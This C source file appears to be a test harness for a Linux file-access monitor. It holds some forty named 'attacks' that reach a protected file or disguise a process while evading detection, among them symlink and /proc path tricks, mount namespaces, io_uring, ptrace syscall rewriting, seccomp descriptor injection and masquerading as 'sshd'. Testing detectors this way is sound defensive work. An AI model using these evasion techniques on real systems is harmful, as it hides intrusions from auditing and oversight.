// attacks NAME: one way to do something that is not meant to be seen as what it is, in the working directory, which has
// protected/secret and protected/pipe. 0: done; 77: this kernel cannot, and a line says why; else what went wrong is told.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static char here[2048], secret[4096];

static int failed(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 1;
}

static int cannot(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 77;
}

// Opens, says if that fails.
static int opens(int dir, const char *name)
{
	return openat(dir, name, O_RDONLY) < 0 ? failed(name) : 0;
}

static int opens_here(const char *name)
{
	return opens(AT_FDCWD, name);
}

// Other paths to the file.

static int by_link(void)
{
	return symlink("protected/secret", "link") ? failed("symlink") : opens_here("link");
}

static int by_linked_directory(void)
{
	return symlink("protected", "folder") ? failed("symlink") : opens_here("folder/secret");
}

// As many links as the kernel follows.
static int by_chain(void)
{
	char from[16], to[16];
	int i;

	for (i = 0; i < 40; i++) {
		snprintf(from, sizeof from, "chain%d", i);
		if (symlink(i ? to : "protected/secret", from))
			return failed("symlink");
		strcpy(to, from);
	}
	return opens_here(to);
}

static int by_dots_after_link(void)
{
	if (mkdir("protected/deep", 0700) || symlink("protected/deep", "jump"))
		return failed("symlink");
	return opens_here("jump/../secret");
}

static int by_slashes(void)
{
	return opens_here(".//protected////./secret");
}

static int by_newline(void)
{
	return symlink("protected/secret", "a\nb\033[31m\xff") ? failed("symlink") : opens_here("a\nb\033[31m\xff");
}

static int by_proc(const char *root)
{
	char path[8192];

	snprintf(path, sizeof path, "%s%s", root, secret);
	return opens_here(path);
}

static int by_own_root(void)
{
	return by_proc("/proc/self/root");
}

static int by_cwd(void)
{
	return opens_here("/proc/thread-self/cwd/protected/secret");
}

static int by_descriptor_of_directory(void)
{
	char path[64];

	snprintf(path, sizeof path, "/dev/fd/%d/../protected/secret", open("protected", O_PATH));
	return opens_here(path);
}

static int by_dirfd(void)
{
	return opens(open("protected", O_PATH | O_DIRECTORY), "secret");
}

static int by_handle_of_place(void)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/self/fd/%d", open("protected/secret", O_PATH));
	return opens_here(path);
}

static int by_own_namespace(void)
{
	return unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL) ? cannot("mount namespace") : 0;
}

static int by_bind_mount(void)
{
	if (by_own_namespace())
		return 77;
	close(open("innocent", O_CREAT, 0600));
	return mount("protected/secret", "innocent", NULL, MS_BIND, NULL) ? failed("mount") : opens_here("innocent");
}

static int by_detached_mount(void)
{
	int tree;

	if (by_own_namespace())
		return 77;
	tree = syscall(SYS_open_tree, AT_FDCWD, "protected", 1 /* OPEN_TREE_CLONE */);
	return tree < 0 ? cannot("open_tree") : opens(tree, "secret");
}

static int by_overlay(void)
{
	char options[8192];

	if (by_own_namespace())
		return 77;
	mkdir("scratch", 0700);
	if (mount("tmpfs", "scratch", "tmpfs", 0, NULL) || mkdir("scratch/upper", 0700) || mkdir("scratch/work", 0700) ||
	    mkdir("merged", 0700))
		return failed("tmpfs");
	snprintf(options, sizeof options, "lowerdir=%s/protected,upperdir=%s/scratch/upper,workdir=%s/scratch/work", here, here, here);
	return mount("overlay", "merged", "overlay", 0, options) ? cannot("overlay") : opens_here("merged/secret");
}

static int by_chroot(void)
{
	return chroot("protected") ? failed("chroot") : opens_here("/secret");
}

static int by_pivot_root(void)
{
	if (by_own_namespace())
		return 77;
	if (mount("protected", "protected", NULL, MS_BIND, NULL) || mkdir("protected/old", 0700))
		return failed("bind");
	if (syscall(SYS_pivot_root, "protected", "protected/old"))
		return cannot("pivot_root");
	return opens_here("/secret");
}

static int by_resolve_in_root(void)
{
	struct open_how how = {.resolve = RESOLVE_IN_ROOT};
	int dir = open("protected", O_PATH);

	return syscall(SYS_openat2, dir, "/../../secret", &how, sizeof how) < 0 ? cannot("openat2") : 0;
}

static int by_handle(void)
{
	struct {
		struct file_handle handle;
		char bytes[MAX_HANDLE_SZ];
	} it = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
	int mount_id;

	if (name_to_handle_at(AT_FDCWD, "protected/secret", &it.handle, &mount_id, 0))
		return cannot("name_to_handle_at");
	return open_by_handle_at(open("protected", O_RDONLY), &it.handle, O_RDONLY) < 0 ? cannot("open_by_handle_at") : 0;
}

static int by_hard_link(void)
{
	return link("protected/secret", "hard") ? failed("link") : opens_here("hard");
}

// Names that change.

static char changing[64] = "protected/pipe";

static void *change(void *unused)
{
	usleep(200000);
	strcpy(changing, "harmless");
	opens_here("protected/other_end");
	open("protected/pipe", O_WRONLY);
	return unused;
}

// The pipe holds up its reader until there is a writer; the kernel has long copied the name.
static int by_changing_name(void)
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, change, NULL))
		return failed("pthread_create");
	return opens_here(changing);
}

// io_uring.

struct ring {
	int fd;
	struct io_uring_params params;
	char *base;
	struct io_uring_sqe *entries;
};

static int make_ring(struct ring *ring, unsigned flags)
{
	memset(ring, 0, sizeof *ring);
	ring->params.flags = flags;
	ring->params.sq_thread_idle = 2000;
	ring->fd = syscall(SYS_io_uring_setup, 4, &ring->params);
	if (ring->fd < 0)
		return cannot("io_uring_setup");
	ring->base = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, 0);
	ring->entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQES);
	return 0;
}

static volatile unsigned *word(struct ring *ring, unsigned at)
{
	return (volatile unsigned *)(ring->base + at);
}

static int run(struct ring *ring, struct io_uring_sqe entry)
{
	unsigned tail = *word(ring, ring->params.sq_off.tail), place = tail & *word(ring, ring->params.sq_off.ring_mask);
	unsigned head = *word(ring, ring->params.cq_off.head), polled = ring->params.flags & IORING_SETUP_SQPOLL;
	struct io_uring_cqe *done;

	ring->entries[place] = entry;
	word(ring, ring->params.sq_off.array)[place] = place;
	__sync_synchronize();
	*word(ring, ring->params.sq_off.tail) = tail + 1;
	__sync_synchronize();
	if (syscall(SYS_io_uring_enter, ring->fd, polled ? 0 : 1, 1, IORING_ENTER_GETEVENTS | (polled ? IORING_ENTER_SQ_WAKEUP : 0),
		    NULL, 0) < 0)
		return -errno;
	done = (struct io_uring_cqe *)(ring->base + ring->params.cq_off.cqes) + (head & *word(ring, ring->params.cq_off.ring_mask));
	*word(ring, ring->params.cq_off.head) = head + 1;
	return done->res;
}

static struct io_uring_sqe entry_of(unsigned op, const char *name)
{
	struct io_uring_sqe entry = {.opcode = op, .fd = AT_FDCWD, .addr = (unsigned long)name};

	return entry;
}

static int answer(int result, const char *what)
{
	errno = -result;
	return result < 0 ? cannot(what) : 0;
}

static int opens_by_ring(unsigned flags)
{
	struct ring ring;

	return make_ring(&ring, flags) ? 77 : answer(run(&ring, entry_of(IORING_OP_OPENAT, "link")), "openat");
}

static int by_ring(void)
{
	return symlink("protected/secret", "link") ? failed("symlink") : opens_by_ring(0);
}

static int by_polled_ring(void)
{
	return symlink("protected/secret", "link") ? failed("symlink") : opens_by_ring(IORING_SETUP_SQPOLL);
}

// A child uses the ring that it inherited: the opened file is the child's.
static int by_inherited_ring(void)
{
	struct ring ring;
	int status;

	if (make_ring(&ring, 0))
		return 77;
	if (!fork())
		_exit(answer(run(&ring, entry_of(IORING_OP_OPENAT, "protected/secret")), "openat"));
	wait(&status);
	return WEXITSTATUS(status);
}

static int removed_by_ring(void)
{
	struct ring ring;

	return make_ring(&ring, 0) ? 77 : answer(run(&ring, entry_of(IORING_OP_UNLINKAT, "protected/removed")), "unlinkat");
}

static int renamed_by_ring(void)
{
	struct io_uring_sqe entry = entry_of(IORING_OP_RENAMEAT, "protected/renamed");
	struct ring ring;

	entry.len = AT_FDCWD;
	entry.off = (unsigned long)"away";
	return make_ring(&ring, 0) ? 77 : answer(run(&ring, entry), "renameat");
}

// Other ways to make a call.

#if defined(__x86_64__)
static char *low(void)
{
	char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	return page == MAP_FAILED ? NULL : page;
}

static int by_narrow_call(void)
{
	char *name = low();
	long result = 5; /* open */

	strcpy(name, "protected/secret");
	asm volatile("int $0x80" : "+a"(result) : "b"(name), "c"(O_RDONLY), "d"(0) : "memory", "r8", "r9", "r10", "r11");
	return answer(result, "int 0x80");
}

static int by_x32_call(void)
{
	long result = syscall(0x40000000 | SYS_open, "protected/secret", O_RDONLY);

	return result < 0 ? cannot("x32") : 0;
}

// A tracer makes another call of one that its child enters.
static int by_tracer(void)
{
	struct user_regs_struct regs;
	int status, entered = 0;
	pid_t child = fork();

	if (!child) {
		static const char name[] = "protected/secret";

		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		syscall(SYS_getppid, AT_FDCWD, name, O_RDONLY);
		_exit(0);
	}
	waitpid(child, &status, 0);
	for (;;) {
		if (ptrace(PTRACE_SYSCALL, child, 0, 0) || waitpid(child, &status, 0) < 0)
			return failed("ptrace");
		if (WIFEXITED(status))
			return 0;
		ptrace(PTRACE_GETREGS, child, 0, &regs);
		if (!entered && regs.orig_rax == SYS_getppid) {
			entered = 1;
			regs.orig_rax = SYS_openat;
			ptrace(PTRACE_SETREGS, child, 0, &regs);
		}
	}
}

// A tracer shows the file's name only while the call runs.
static int by_tracer_of_arguments(void)
{
	static char name[64] = "harmless";
	struct user_regs_struct regs;
	int status, entered = 0;
	pid_t child = fork();
	long text;

	if (!child) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		syscall(SYS_openat, AT_FDCWD, name, O_RDONLY);
		_exit(0);
	}
	waitpid(child, &status, 0);
	for (;;) {
		if (ptrace(PTRACE_SYSCALL, child, 0, 0) || waitpid(child, &status, 0) < 0)
			return failed("ptrace");
		if (WIFEXITED(status))
			return 0;
		ptrace(PTRACE_GETREGS, child, 0, &regs);
		if (regs.orig_rax != SYS_openat || regs.rsi != (unsigned long)name)
			continue;
		memcpy(&text, entered ? "harmless" : "protecte", 8);
		ptrace(PTRACE_POKEDATA, child, name, text);
		memcpy(&text, entered ? "\0\0\0\0\0\0\0" : "d/secret", 8);
		ptrace(PTRACE_POKEDATA, child, name + 8, text);
		entered = 1;
	}
}
#else
static int other_machine(void)
{
	printf("not on this machine\n");
	return 77;
}
#define by_narrow_call other_machine
#define by_x32_call other_machine
#define by_tracer other_machine
#define by_tracer_of_arguments other_machine
#endif

// A supervisor answers an open of something harmless with a descriptor of the file.
static int by_supervisor(void)
{
	struct sock_filter filter[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {4, filter};
	struct seccomp_notif asked = {0};
	struct seccomp_notif_addfd given = {.flags = SECCOMP_ADDFD_FLAG_SEND};
	int status, notify, file = open("protected/secret", O_RDONLY);
	pid_t child;

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (!child) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		notify = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
		/* The place of the listener is known to the other: the next free one. */
		_exit(notify < 0 ? 77 : syscall(SYS_openat, AT_FDCWD, "harmless", O_RDONLY) < 0);
	}
	usleep(200000);
	notify = file + 1;
	if (ioctl(notify, SECCOMP_IOCTL_NOTIF_RECV, &asked))
		return cannot("seccomp");
	given.id = asked.id;
	given.srcfd = file;
	if (ioctl(notify, SECCOMP_IOCTL_NOTIF_ADDFD, &given) < 0)
		return cannot("SECCOMP_ADDFD_FLAG_SEND");
	waitpid(child, &status, 0);
	return WEXITSTATUS(status);
}

// Who did it.

static char *const arguments[] = {"innocent", "argument", NULL};

static int runs_by_descriptor(void)
{
	fexecve(open("/bin/true", O_RDONLY), arguments, environ);
	return failed("fexecve");
}

static int runs_by_link(void)
{
	if (symlink("/bin/true", "sshd"))
		return failed("symlink");
	execv("./sshd", arguments);
	return failed("execv");
}

static int copy(const char *name)
{
	int from = open("/bin/true", O_RDONLY), to = open(name, O_WRONLY | O_CREAT, 0700);
	struct stat about;

	if (from < 0 || to < 0 || fstat(from, &about) || sendfile(to, from, NULL, about.st_size) != about.st_size)
		return failed("copy");
	close(from);
	close(to);
	return 0;
}

static int runs_a_copy(void)
{
	if (copy("sshd"))
		return 1;
	execv("./sshd", arguments);
	return failed("execv");
}

static int runs_what_is_gone(void)
{
	int fd;

	if (copy("gone"))
		return 1;
	fd = open("gone", O_RDONLY);
	unlink("gone");
	fexecve(fd, arguments, environ);
	return failed("fexecve");
}

static int runs_from_memory(void)
{
	int from = open("/bin/true", O_RDONLY), to = memfd_create("hidden", 0);
	struct stat about;

	if (fstat(from, &about) || sendfile(to, from, NULL, about.st_size) != about.st_size)
		return failed("memfd");
	close(from);
	syscall(SYS_execveat, to, "", arguments, environ, AT_EMPTY_PATH);
	return failed("execveat");
}

static int runs_by_loader(void)
{
	execl("/lib64/ld-linux-x86-64.so.2", "innocent", "/bin/true", NULL);
	return cannot("ld.so");
}

static int runs_by_script(void)
{
	int fd = open("script", O_WRONLY | O_CREAT, 0700);

	dprintf(fd, "#!/bin/true x\n");
	close(fd);
	execv("./script", arguments);
	return failed("script");
}

static void *execs(void *unused)
{
	execv("/bin/true", arguments);
	return unused;
}

// Not the main thread: the new program has the number of the process all the same.
static int runs_by_thread(void)
{
	pthread_t thread;

	pthread_create(&thread, NULL, execs, NULL);
	pthread_join(thread, NULL);
	return failed("execv");
}

static int names_itself(void)
{
	prctl(PR_SET_NAME, "sshd");
	return opens_here("protected/secret");
}

static int names_itself_by_proc(void)
{
	int fd = open("/proc/self/comm", O_WRONLY);

	if (write(fd, "sshd", 4) != 4)
		return failed("comm");
	return opens_here("protected/secret");
}

// The arguments lie in memory that ps reads.
static int overwrites_arguments(char **argv)
{
	memset(argv[0], 'x', strlen(argv[0]));
	return opens_here("protected/secret");
}

static int by_vfork(void)
{
	int status;

	if (!vfork())
		_exit(opens_here("protected/secret"));
	wait(&status);
	return WEXITSTATUS(status);
}

// A process of its own that shares the descriptors of its parent: the parent opens the directory, the child the file.
static int by_shared_descriptors(void)
{
	int status, dir;
	pid_t child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);

	if (!child) {
		usleep(200000);
		_exit(openat(3, "secret", O_RDONLY) < 0);
	}
	close(3);
	dir = open("protected", O_PATH);
	if (dir != 3)
		return failed("open");
	wait(&status);
	return WEXITSTATUS(status);
}

static const struct {
	const char *name;
	int (*run)(void);
} attacks[] = {
	{"link", by_link},
	{"linked directory", by_linked_directory},
	{"chain of links", by_chain},
	{"dots after a link", by_dots_after_link},
	{"slashes", by_slashes},
	{"newline", by_newline},
	{"root in /proc", by_own_root},
	{"cwd in /proc", by_cwd},
	{"descriptor of a directory", by_descriptor_of_directory},
	{"dirfd", by_dirfd},
	{"handle of a place", by_handle_of_place},
	{"bind mount", by_bind_mount},
	{"detached mount", by_detached_mount},
	{"overlay", by_overlay},
	{"chroot", by_chroot},
	{"pivot_root", by_pivot_root},
	{"resolved in a root", by_resolve_in_root},
	{"file handle", by_handle},
	{"hard link", by_hard_link},
	{"changing name", by_changing_name},
	{"ring", by_ring},
	{"polled ring", by_polled_ring},
	{"inherited ring", by_inherited_ring},
	{"removed by a ring", removed_by_ring},
	{"renamed by a ring", renamed_by_ring},
	{"int 0x80", by_narrow_call},
	{"x32", by_x32_call},
	{"tracer", by_tracer},
	{"tracer of arguments", by_tracer_of_arguments},
	{"supervisor", by_supervisor},
	{"runs a descriptor", runs_by_descriptor},
	{"runs a link", runs_by_link},
	{"runs a copy", runs_a_copy},
	{"runs what is gone", runs_what_is_gone},
	{"runs from memory", runs_from_memory},
	{"runs by the loader", runs_by_loader},
	{"runs a script", runs_by_script},
	{"runs in a thread", runs_by_thread},
	{"names itself", names_itself},
	{"names itself in /proc", names_itself_by_proc},
	{"vfork", by_vfork},
	{"shared descriptors", by_shared_descriptors},
};

int main(int argc, char **argv)
{
	size_t i;

	if (argc != 2 || !getcwd(here, sizeof here))
		return failed("attacks NAME");
	alarm(20);
	snprintf(secret, sizeof secret, "%s/protected/secret", here);
	if (!strcmp(argv[1], "overwritten arguments"))
		return overwrites_arguments(argv);
	for (i = 0; i < sizeof attacks / sizeof *attacks; i++)
		if (!strcmp(argv[1], attacks[i].name))
			return attacks[i].run();
	printf("no such attack\n");
	return 1;
}
